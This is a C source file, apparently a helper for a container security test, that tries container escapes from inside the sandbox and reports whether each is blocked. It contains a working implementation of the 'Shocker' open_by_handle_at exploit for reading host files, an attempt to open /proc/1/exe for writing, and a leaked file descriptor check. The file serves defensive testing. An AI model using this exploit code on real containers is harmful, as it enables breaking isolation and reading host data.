/*
 * Escape attempts, run from inside a container by test/security/escape.test.ts (static, so it runs
 * on a busybox rootfs). Each mode prints one line the test reads; none of them may succeed.
 *
 *   escape shocker FILE [DIR]  the 2014 "Shocker" exploit: take the handle of "/" to learn the
 *                            filesystem's handle format, forge one for inode 2 (the root directory of
 *                            an ext2/3/4 filesystem: the host's, when the rootfs is a directory on it),
 *                            open it with open_by_handle_at (DIR, default "/", as the mount fd:
 *                            a volume is another way onto the host's filesystem) and read FILE
 *                            relative to it.
 *                            Prints "ESCAPED <first line>" or "blocked <step> <errno name>".
 *   escape open-write PATH   open PATH for writing (e.g. /proc/1/exe): "ESCAPED" or "blocked <errno>".
 *   escape fds               the open fds other than 0-2 and their targets: "fds none" or "fds N:TARGET...".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char *errname(int e)
{
	switch (e) {
	case EPERM: return "EPERM";
	case EACCES: return "EACCES";
	case ENOENT: return "ENOENT";
	case ESTALE: return "ESTALE";
	case EINVAL: return "EINVAL";
	case ENOSYS: return "ENOSYS";
	case EOPNOTSUPP: return "EOPNOTSUPP";
	case ETXTBSY: return "ETXTBSY";
	case EROFS: return "EROFS";
	case ENXIO: return "ENXIO";
	default: return strerror(e);
	}
}

static int shocker(const char *file, const char *dir)
{
	struct { struct file_handle h; unsigned char bytes[MAX_HANDLE_SZ]; } own, forged;
	int mount_id;
	own.h.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, dir, &own.h, &mount_id, 0) < 0) {
		/* not fatal: the forged handle below is the classic ext4 one anyway */
		own.h.handle_type = 1;  /* FILEID_INO32_GEN */
		own.h.handle_bytes = 8;
	}
	memset(&forged, 0, sizeof forged);
	forged.h.handle_type = own.h.handle_type;
	forged.h.handle_bytes = own.h.handle_bytes;
	unsigned int ino = 2;   /* the root inode; generation 0 */
	memcpy(forged.h.f_handle, &ino, sizeof ino);
	int mfd = open(dir, O_RDONLY | O_DIRECTORY);
	if (mfd < 0) {
		printf("blocked open-root %s\n", errname(errno));
		return 0;
	}
	int root = open_by_handle_at(mfd, &forged.h, O_RDONLY | O_DIRECTORY);
	if (root < 0) {
		printf("blocked open_by_handle_at %s\n", errname(errno));
		return 0;
	}
	int fd = openat(root, file, O_RDONLY);
	if (fd < 0) {
		printf("ESCAPED root-opened-but %s %s\n", file, errname(errno));
		return 1;
	}
	char line[256] = "";
	ssize_t n = read(fd, line, sizeof line - 1);
	line[n > 0 ? n : 0] = 0;
	char *nl = strchr(line, '\n');
	if (nl)
		*nl = 0;
	printf("ESCAPED %s\n", line);
	return 1;
}

static int open_write(const char *path)
{
	int fd = open(path, O_WRONLY);
	if (fd >= 0) {
		printf("ESCAPED\n");
		return 1;
	}
	printf("blocked %s\n", errname(errno));
	return 0;
}

static int fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	if (!d) {
		printf("fds unreadable %s\n", errname(errno));
		return 1;
	}
	int self = dirfd(d), any = 0;
	struct dirent *e;
	printf("fds");
	while ((e = readdir(d))) {
		int n = atoi(e->d_name);
		if (e->d_name[0] == '.' || n <= 2 || n == self)
			continue;
		char link[64], to[512];
		snprintf(link, sizeof link, "/proc/self/fd/%d", n);
		ssize_t len = readlink(link, to, sizeof to - 1);
		to[len > 0 ? len : 0] = 0;
		printf(" %d:%s", n, to);
		any = 1;
	}
	printf(any ? "\n" : " none\n");
	closedir(d);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if ((argc == 3 || argc == 4) && !strcmp(argv[1], "shocker"))
		return shocker(argv[2], argc == 4 ? argv[3] : "/");
	if (argc == 3 && !strcmp(argv[1], "open-write"))
		return open_write(argv[2]);
	if (argc == 2 && !strcmp(argv[1], "fds"))
		return fds();
	fprintf(stderr, "usage: escape shocker FILE [DIR] | open-write PATH | fds\n");
	return 2;
}
